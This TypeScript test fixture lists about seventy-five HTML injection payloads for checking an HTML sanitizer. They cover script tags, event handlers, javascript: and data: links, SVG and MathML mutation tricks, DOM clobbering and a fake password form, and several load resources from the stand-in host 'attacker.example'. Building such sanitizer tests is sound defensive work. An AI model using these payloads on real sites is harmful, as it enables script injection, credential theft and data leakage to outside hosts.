/**
 * HTML that has got through other editors and cleaners, by the kinds that public lists describe. Each marks itself in
 * `window.ran` if it runs, and asks for an address under `hostileHost` if it may load anything.
 */
export interface HostileHtml {
  readonly name: string;
  readonly html: string;
}

export const hostileHost = 'attacker.example';

/** RUN is a statement that marks the payload, URL an address that shows that it was loaded. */
const sources: readonly (readonly [name: string, html: string])[] = [
  ['script', '<script>RUN</script>'],
  ['script with an address', '<script src="URL.js"></script>'],
  ['script in capitals, not closed', '<SCRIPT>RUN//'],
  ['script, split by itself', '<scr<script>ipt>RUN</scr</script>ipt>'],
  ['script as a module', '<script type=module>RUN</script>'],
  ['script of SVG', '<svg><script>RUN</script></svg>'],
  ['script of SVG, by address', '<svg><script xlink:href="data:,RUN"></script></svg>'],
  ['picture with a handler', '<img src=x onerror="RUN">'],
  ['picture with a handler, without quotes or blanks', '<img/src=x/onerror=RUN>'],
  ['picture with a handler behind a line end', '<img src=x\nonerror\n=\n"RUN">'],
  ['picture with a handler in a backquote', '<img src=`x` onerror=RUN>'],
  ['picture that loads', '<img src="URL.png">'],
  ['picture by srcset', '<img srcset="URL.png 1x">'],
  ['picture, lazy, in a picture', '<picture><source srcset="URL.webp"><img loading=lazy></picture>'],
  ['picture input', '<input type=image src="URL.png" onerror="RUN">'],
  ['body handler', '<body onload="RUN">text'],
  ['focus handler', '<a href="#" autofocus onfocus="RUN" tabindex=0>text</a>'],
  ['animation handler', '<p style="animation:spin 1s" onanimationstart="RUN">text</p>'],
  ['toggle handler', '<details open ontoggle="RUN"><summary>text</summary></details>'],
  ['transition handler', '<b onpointerrawupdate="RUN" onpointerenter="RUN">text</b>'],
  [
    'handler with an unusual name',
    '<p onbeforetoggle="RUN" popover id=pop>text</p><button popovertarget=pop>x',
  ],
  [
    'content visibility handler',
    '<p oncontentvisibilityautostatechange="RUN" style="content-visibility:auto">text</p>',
  ],
  ['SVG load handler', '<svg onload="RUN">'],
  [
    'SVG animation of an address',
    '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>text</text></a></svg>',
  ],
  ['SVG set of a handler', '<svg><set attributeName=onload to="RUN"/></svg>'],
  ['SVG use of a document', '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN></svg>#x"></use></svg>'],
  ['SVG foreign object', '<svg><foreignObject><img src=x onerror="RUN"></foreignObject></svg>'],
  ['SVG picture', '<svg><image href="URL.svg" onload="RUN"/></svg>'],
  ['SVG style', '<svg><style>@import "URL.css"</style></svg>'],
  ['SVG filter that loads', '<svg><feImage href="URL.svg"/></svg>'],
  ['MathML link', '<math href="javascript:RUN">text</math>'],
  [
    'MathML action',
    '<math><maction actiontype="statusline#" xlink:href="javascript:RUN">text</maction></math>',
  ],
  [
    'namespace confusion by a table',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  ],
  [
    'namespace confusion by a form',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">',
  ],
  ['mutation by a title', '<svg></p><title><style><a id="</style><img src=1 onerror=RUN>"></title></svg>'],
  ['mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=RUN>"></p></noscript>'],
  ['mutation by a comment', '<!--><img src=x onerror=RUN>-->'],
  ['mutation by a comment, ended by a bang', '<!-- --!><img src=x onerror=RUN> -->'],
  ['mutation by xmp', '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>'],
  ['mutation by a text area', '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>'],
  [
    'mutation by a select',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=RUN>">',
  ],
  [
    'mutation by annotations',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>',
  ],
  ['deep nesting', `${'<div>'.repeat(600)}<img src=x onerror=RUN>${'</div>'.repeat(600)}`],
  ['javascript: link', '<a href="javascript:RUN">text</a>'],
  ['javascript: link in mixed case with blanks', '<a href=" jAvAsCrIpT:RUN">text</a>'],
  ['javascript: link with a tab in it', '<a href="java&#9;script:RUN">text</a>'],
  ['javascript: link in entities', '<a href="&#106;&#97;vascript&colon;RUN">text</a>'],
  ['javascript: link behind control characters', '<a href="\u0001javascript:RUN">text</a>'],
  ['data: link', '<a href="data:text/html,<script>RUN</script>">text</a>'],
  [
    'vbscript: and other schemes',
    '<a href="vbscript:RUN">a</a><a href="file:///etc/passwd">b</a><a href="blob:x">c</a>',
  ],
  ['link that asks for a ping', '<a href="https://example.org/" ping="URL">text</a>'],
  ['link with a name before its host', '<a href="https://bank.example@attacker.example/">text</a>'],
  ['style attribute that loads', '<p style="background:url(URL.png)">text</p>'],
  ['style that loads', '<style>@import url(URL.css); p{background:url(URL.png)}</style>'],
  ['style that covers the page', '<div style="position:fixed;inset:0;z-index:9999">text</div>'],
  [
    'style sheet',
    '<link rel=stylesheet href="URL.css"><link rel=prefetch href="URL"><link rel=dns-prefetch href="URL">',
  ],
  ['font', '<style>@font-face{font-family:x;src:url(URL.woff)}*{font-family:x}</style><p>text</p>'],
  ['frame', '<iframe src="URL.html"></iframe>'],
  ['frame with a document', '<iframe srcdoc="<script>parent.RUN</script>"></iframe>'],
  ['frame with javascript:', '<iframe src="javascript:parent.RUN"></iframe>'],
  ['object', '<object data="URL.html"></object><object data="data:text/html,<script>RUN</script>"></object>'],
  ['embed', '<embed src="URL.swf"><applet code=x archive="URL.jar"></applet>'],
  ['video', '<video src="URL.mp4" poster="URL.png" onerror="RUN" autoplay></video>'],
  ['audio', '<audio autoplay onerror="RUN"><source src="URL.ogg" onerror="RUN"></audio>'],
  ['form', '<form action="URL"><input name=password autofocus onfocus="RUN"><button>Sign in</button></form>'],
  ['form action of a button', '<form id=f></form><button form=f formaction="javascript:RUN">text</button>'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=URL">'],
  ['base', '<base href="URL/"><a href="page">text</a>'],
  ['template with a shadow', '<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>'],
  ['id clobbering', '<a id=ran></a><form id=document><input name=body></form><img name=getElementById>'],
  [
    'clobbering of the cleaner',
    '<form><input name=attributes><input name=nodeName><input name=childNodes onfocus=RUN autofocus></form>',
  ],
  ['custom element', '<x-card onclick="RUN" is="x">text</x-card><p is="x-card">text</p>'],
  [
    'import map and speculation',
    '<script type=importmap>{"imports":{"x":"URL.js"}}</script><script type=speculationrules>{"prefetch":[{"urls":["URL"]}]}</script>',
  ],
  [
    'marquee and old handlers',
    '<marquee onstart="RUN" behavior=alternate>text</marquee><bgsound src="URL.mid"><table background="URL.png"><td>text',
  ],
];

export const hostileHtml: readonly HostileHtml[] = sources.map(([name, html], index) => ({
  name,
  html: html
    .replaceAll('RUN', `window.ran=(window.ran||'')+' ${index + 1}'`)
    .replaceAll('URL', `https://${hostileHost}/${index + 1}`),
}));
